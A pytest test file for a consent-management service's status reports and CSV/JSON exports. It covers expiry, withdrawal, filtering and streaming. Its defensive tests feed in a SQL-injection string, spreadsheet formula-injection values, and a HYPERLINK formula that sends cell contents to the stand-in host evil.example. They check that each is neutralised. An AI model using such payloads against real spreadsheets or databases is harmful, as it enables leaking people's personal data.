"""What the company is told: who may be used for what, and what is known of an address."""

import csv
import io
import json
from typing import Any

import pytest

from app.services import confirmation, housekeeping, reports
from app.services.context import Context
from tests import audit
from tests.factories import Clock, notice_hash, send_form, token_in, work_off
from tests.services.person import Person

COLUMNS = [
    "email", "controller", "form", "purpose", "status", "since", "until", "language", "site", "channel", "proof",
    "decided_by", "child", "notice", "withdraw_link", "object_link", "subject", "restricted",
]  # fmt: skip


def as_csv(ctx: Context, **chosen: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(reports.consents_as_csv(ctx, chosen)), newline="")))


def as_json(ctx: Context, **chosen: str) -> list[dict[str, Any]]:
    return json.loads("".join(reports.consents_as_json(ctx, chosen)))  # type: ignore[no-any-return]


def test_a_status_names_everything_an_answer_needs(any_ctx: Context, clock: Clock) -> None:
    sofie = Person(any_ctx)
    sofie.asks("keep_cv")

    assert reports.status(any_ctx, sofie.email, None) == [
        {
            "subject": sofie.rows()[0]["id"],
            "as": "self",
            "child": "",
            "controller": "talentwerk",
            "form": "careers",
            "purpose": "keep_cv",
            "status": "requested",
            "since": "2026-11-21T13:32:05.000000Z",
            "notice": notice_hash(any_ctx),
        }
    ]


def test_who_is_unknown_has_no_status(any_ctx: Context) -> None:
    Person(any_ctx).asks("keep_cv")

    assert reports.status(any_ctx, "nobody@voorbeeld.test", None) == []
    assert reports.status(any_ctx, "sofie@voorbeeld.test", "metaalnet") == []
    assert reports.status(any_ctx, "sofie@voorbeeld.test", "nowhere") == []


def test_every_status_that_an_adult_can_have_is_told_as_it_comes_about(any_ctx: Context, clock: Clock) -> None:
    any_ctx.limited = False
    sofie = Person(any_ctx)

    sofie.grants("keep_cv")
    asked = sofie.asks("offers_mail")
    assert sofie.statuses() == {"keep_cv": "granted", "offers_mail": "requested"}
    sofie.says_no(asked)
    assert sofie.statuses() == {"keep_cv": "granted", "offers_mail": "refused"}
    sofie.asks("offers_phone")
    clock.forward(days=7)
    assert sofie.statuses()["offers_phone"] == "lapsed"
    housekeeping.tidy(any_ctx)
    assert sofie.statuses()["offers_phone"] == "lapsed"
    sofie.grants("offers_phone")
    sofie.withdraws("offers_phone")
    clock.forward(days=2 * 365)
    assert sofie.statuses() == {"keep_cv": "expired", "offers_mail": "refused", "offers_phone": "withdrawn"}
    housekeeping.tidy(any_ctx)
    assert sofie.statuses() == {"keep_cv": "expired", "offers_mail": "refused", "offers_phone": "withdrawn"}


def test_the_status_since_when_is_that_of_the_last_decision(any_ctx: Context, clock: Clock) -> None:
    any_ctx.limited = False
    sofie = Person(any_ctx)
    sofie.grants("keep_cv", "offers_mail")
    clock.forward(days=1)
    sofie.withdraws("keep_cv")
    sofie.mails()
    clock.forward(days=1)
    sofie.says_no(sofie.asks("offers_phone"))

    since = {line["purpose"]: line["since"][:10] for line in reports.status(any_ctx, sofie.email, None)}
    assert since == {"offers_mail": "2026-11-21", "keep_cv": "2026-11-22", "offers_phone": "2026-11-23"}


def test_what_still_waits_in_an_older_request_is_not_hidden_by_a_newer_no(any_ctx: Context, clock: Clock) -> None:
    any_ctx.limited = False
    sofie = Person(any_ctx)
    older = sofie.asks("offers_mail", "keep_cv")
    clock.forward(minutes=1)
    sofie.says_no(sofie.asks("offers_mail"))

    assert sofie.statuses() == {"offers_mail": "requested", "keep_cv": "requested"}
    sofie.says_yes(older)
    assert sofie.statuses() == {"offers_mail": "granted", "keep_cv": "granted"}


def test_a_new_request_after_a_withdrawal_is_told_until_it_is_answered(any_ctx: Context, clock: Clock) -> None:
    any_ctx.limited = False
    sofie = Person(any_ctx)
    sofie.grants("offers_mail")
    sofie.withdraws()
    sofie.mails()

    asked = sofie.asks("offers_mail")
    assert sofie.statuses() == {"offers_mail": "requested"}
    sofie.says_no(asked)
    assert sofie.statuses() == {"offers_mail": "withdrawn"}


def test_an_export_lists_who_may_be_used_for_what(any_ctx: Context) -> None:
    sofie = Person(any_ctx)
    sofie.grants("offers_mail", "offers_phone", first_name="Sofie", phone="0612345678", field_of_work="care")

    lines = {line["purpose"]: line for line in as_json(any_ctx, status="granted")}

    mail = lines["offers_mail"]
    assert mail == {
        "email": "sofie@voorbeeld.test",
        "controller": "talentwerk",
        "form": "careers",
        "purpose": "offers_mail",
        "status": "granted",
        "since": "2026-11-21T13:32:05.000000Z",
        "until": "2028-11-21T13:32:05.000000Z",
        "language": "nl",
        "site": "www.talentwerk.example",
        "channel": "email",
        "proof": "mail",
        "decided_by": "self",
        "child": "",
        "notice": notice_hash(any_ctx),
        "withdraw_link": f"https://forms.example/withdraw/{sofie.token('withdraw')}/offers_mail",
        "object_link": f"https://forms.example/object/{sofie.token('object')}",
        "subject": sofie.rows()[0]["id"],
        "restricted": "",
        "fields": {"first_name": "Sofie", "field_of_work": "care"},
    }
    assert lines["offers_phone"]["fields"] == {"phone": "0612345678", "field_of_work": "care"}
    assert (lines["offers_phone"]["channel"], lines["offers_phone"]["proof"]) == ("phone", "call_back")


def test_csv_and_json_say_the_same(any_ctx: Context) -> None:
    Person(any_ctx).grants("offers_mail", first_name="Sofie, “Fie”", field_of_work="care")
    Person(any_ctx, "josé@voorbeeld.test").grants("offers_mail", "keep_cv", first_name="José\u2028\nX")

    rows, records = as_csv(any_ctx, form="careers"), as_json(any_ctx)

    assert list(rows[0]) == [*COLUMNS, "field_field_of_work", "field_first_name", "field_phone"]
    assert [{name: row[name] for name in COLUMNS} for row in rows] == [
        {name: record[name] for name in COLUMNS} for record in records
    ]
    for row, record in zip(rows, records, strict=True):
        assert {name[6:]: value for name, value in row.items() if name.startswith("field_") and value} == record[
            "fields"
        ]


def columns(ctx: Context, **chosen: str) -> list[str]:
    (head, *_) = "".join(reports.consents_as_csv(ctx, {"status": "granted"} | chosen)).splitlines()
    return [name for name in head.split(",") if name.startswith("field_")]


def test_the_columns_are_those_of_the_definition_whoever_has_filled_in_one(any_ctx: Context) -> None:
    of_mail = {"controller": "talentwerk", "form": "careers", "purpose": "offers_mail"}
    nobody = columns(any_ctx, **of_mail)
    sofie = Person(any_ctx)
    sofie.grants("offers_mail", first_name="Sofie")
    somebody = columns(any_ctx, **of_mail)
    sofie.withdraws()

    assert nobody == somebody == columns(any_ctx, **of_mail) == ["field_field_of_work", "field_first_name"]
    assert columns(any_ctx, purpose="keep_cv") == []
    assert "field_phone" in columns(any_ctx)


def test_only_fields_of_that_very_purpose_are_exported(any_ctx: Context) -> None:
    Person(any_ctx).grants("keep_cv", "offers_phone", phone="0612345678", field_of_work="care")

    (row,) = as_csv(any_ctx, purpose="keep_cv")
    assert "0612345678" not in str(row)
    (record,) = as_json(any_ctx, purpose="keep_cv")
    assert record["fields"] == {}


@pytest.mark.parametrize(
    ("chosen", "count"),
    [
        ({}, 4),
        ({"status": "granted"}, 3),
        ({"status": "withdrawn"}, 1),
        ({"status": "expired"}, 0),
        ({"controller": "talentwerk"}, 3),
        ({"controller": "metaalnet", "status": "granted"}, 1),
        ({"form": "careers", "purpose": "keep_cv"}, 2),
        ({"purpose": "keep_cv", "status": "granted"}, 1),
        ({"controller": "nowhere"}, 0),
        ({"purpose": "' OR 1=1 --"}, 0),
    ],
)
def test_an_export_can_be_narrowed(any_ctx: Context, chosen: dict[str, str], count: int) -> None:
    sofie = Person(any_ctx)
    sofie.grants("keep_cv", "offers_mail")
    Person(any_ctx, "pieter@voorbeeld.test").grants("keep_cv")
    Person(any_ctx, controller="metaalnet", form="events").grants("research")
    sofie.withdraws("keep_cv")

    assert len(as_csv(any_ctx, **chosen)) == len(as_json(any_ctx, **chosen)) == count


def test_who_only_asked_or_refused_is_not_exported(any_ctx: Context) -> None:
    Person(any_ctx).asks("keep_cv")
    pieter = Person(any_ctx, "pieter@voorbeeld.test")
    pieter.says_no(pieter.asks("keep_cv"))

    assert as_json(any_ctx) == as_csv(any_ctx) == []
    assert "".join(reports.consents_as_json(any_ctx, {})) == "[]\n"
    head = ",".join([*COLUMNS, "field_field_of_work", "field_first_name", "field_phone"])
    assert "".join(reports.consents_as_csv(any_ctx, {"form": "careers"})) == f"{head}\r\n"
    assert "".join(reports.consents_as_csv(any_ctx, {})).count("\n") == 1


def test_what_was_withdrawn_is_exported_without_any_fields(any_ctx: Context) -> None:
    sofie = Person(any_ctx)
    sofie.grants("offers_mail", "offers_phone", first_name="Sofie", field_of_work="care")
    sofie.withdraws("offers_phone")

    (record,) = as_json(any_ctx, status="withdrawn")
    assert (record["purpose"], record["fields"], record["until"]) == ("offers_phone", {}, "")


def test_a_consent_whose_time_is_over_is_not_exported_even_when_no_worker_ran(any_ctx: Context, clock: Clock) -> None:
    sofie = Person(any_ctx)
    sofie.grants("offers_mail", "offers_phone")
    clock.forward(days=366)

    assert [record["purpose"] for record in as_json(any_ctx, status="granted")] == ["offers_mail"]
    assert [row["purpose"] for row in as_csv(any_ctx)] == ["offers_mail"]
    assert sofie.statuses() == {"offers_mail": "granted", "offers_phone": "expired"}
    housekeeping.tidy(any_ctx)
    assert [record["purpose"] for record in as_json(any_ctx, status="expired")] == ["offers_phone"]


@pytest.mark.parametrize(
    "formula", ["=1+1", "+32 470", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", '=HYPERLINK("x")']
)
def test_no_cell_is_a_formula(any_ctx: Context, formula: str) -> None:
    """Fields, sites and addresses may begin with what a spreadsheet would calculate."""
    send_form(any_ctx, "=a+b@voorbeeld.test", ("offers_mail",), fields={"first_name": formula}, site=formula)
    person = Person(any_ctx, "=a+b@voorbeeld.test")
    person.says_yes(token_in(person.mail(), "confirm"))

    (row,) = as_csv(any_ctx)
    assert row["email"] == "'=a+b@voorbeeld.test"
    assert row["field_first_name"] == row["site"] == (formula if formula.startswith("'") else f"'{formula}")
    for cell in row.values():
        assert cell[:1] not in tuple("=+-@\t\r\n\0")
    (record,) = as_json(any_ctx)
    assert (record["email"], record["fields"]["first_name"]) == ("=a+b@voorbeeld.test", formula)


def test_a_large_export_comes_line_by_line_and_whole(any_ctx: Context) -> None:
    """More rows than one fetch holds, with a question to the database in between for each of them."""
    sofie = Person(any_ctx)
    sofie.grants("keep_cv", "offers_mail", first_name="Sofie")
    copies = 1200
    for table, own in (("subjects", "id"), ("consents", "subject")):
        columns = list(audit.rows(any_ctx, table)[0])
        unique = {own, "email_key", "withdraw_token", "object_token", "stop_token"}
        values = ", ".join(f"{name} || '-' || number" if name in unique else name for name in columns)
        audit.run(
            any_ctx,
            f"INSERT INTO {table} ({', '.join(columns)}) "
            "WITH RECURSIVE numbers(number) AS "
            f"(SELECT 1 UNION ALL SELECT number + 1 FROM numbers WHERE number < {copies}) "
            f"SELECT {values} FROM {table}, numbers",
        )

    stream = reports.consents_as_csv(any_ctx, {"status": "granted"})
    assert next(stream).startswith("email,")
    assert next(stream).startswith("sofie@voorbeeld.test,")
    del stream  # whoever reads may stop in the middle
    assert len(as_csv(any_ctx, status="granted")) == 2 * (copies + 1)
    records = as_json(any_ctx, purpose="offers_mail")
    assert len(records) == copies + 1
    assert {record["fields"]["first_name"] for record in records} == {"Sofie"}
    assert [record["subject"] for record in records] == sorted(record["subject"] for record in records)


def test_no_part_of_a_cell_is_a_formula_where_cells_are_split_at_semicolons(any_ctx: Context) -> None:
    answer = 'ziek;=HYPERLINK("http://evil.example/?"&A1;"klik")'
    send_form(any_ctx, purposes=("medical",), controller="zorgzeker", form="quote", fields={"medical_history": answer})
    (mail,) = work_off(any_ctx)
    confirmation.confirm(any_ctx, token_in(mail, "confirm"), ("medical",))

    text = "".join(reports.consents_as_csv(any_ctx, {"status": "granted"}))

    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
